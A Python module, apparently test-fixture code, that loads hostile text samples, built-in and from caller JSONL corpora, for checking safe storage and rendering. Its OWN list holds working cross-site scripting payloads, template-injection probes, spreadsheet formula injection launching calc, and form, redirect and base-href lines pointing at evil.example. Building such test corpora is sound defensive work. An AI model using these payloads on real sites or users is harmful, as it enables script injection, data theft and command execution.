"""Texts that try to do something where they are shown: a few of our own, and those of a caller.

`CORPORA=folder` names JSON lines with a `text` in each; `make corpora` shows every one of them."""

from __future__ import annotations

import json
import os
from pathlib import Path

OWN = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1)) ![x](https://evil.example/?q=1) <https://example.com>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)' style='position:fixed;inset:0",
    "</textarea><script>alert(1)</script>",
    "</title></style></script><script>alert(1)</script>",
    "<svg/onload=alert(1)><style>*{display:none}</style>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "&lt;b&gt; &amp; &copy; &#x3c;script&#x3e;alert(1)",
    "| a | b |\n|---|---|\n| <iframe srcdoc='<script>alert(1)</script>'> | 2 |",
    "```html\n<script>alert(1)</script>\n```",
    '``` " onclick=alert(1)\ncode\n```',
    "data: x\n\nevent: message\ndata: {}\n\n",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a> <base href=//evil.example>",
    "[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:x) [c](<java\nscript:alert(1)>)",
    "[d](JaVaScRiPt&colon;alert(1)) [e](&#106;avascript:alert(1)) <javascript:alert(1)>",
    "<form action=//evil.example><button formaction=//evil.example>x</button><input name=q>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//e>",
    "{{7*7}} {% include 'x' %} ${7*7} <%= 7 %> #{7} {{constructor.constructor('alert(1)')()}}",
    "\u202eevil\u202c ﷽ \u2028 \u2066x\u2069 \u200b",
    "<details open ontoggle=alert(1)><summary>x",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x>'>",
    "<!--><img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]>",
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+'",
    "<object data=data:text/html,x><embed src=//evil.example><video><source onerror=alert(1)>",
    "word" * 200,
]


def texts(every: int = 1) -> list[str]:
    """Ours, and every n-th of the caller's; of NUL and halves of characters no database takes."""
    found = list(OWN)
    if folder := os.environ.get("CORPORA"):
        rows = [line for path in sorted(Path(folder).glob("*.jsonl")) for line in _lines(path)]
        found += [json.loads(line).get("text", "") for line in rows[::every]]
    return [text for text in map(_storable, found) if text.strip()]


def is_taken(text: str) -> bool:
    """Whether the API takes it from a visitor."""
    return len(text) <= 4000


def _lines(path: Path) -> list[str]:
    return [line for line in path.read_text(encoding="utf-8").split("\n") if line.strip()]


def _storable(text: str) -> str:
    return text.replace("\0", "").encode("utf-8", "ignore").decode()
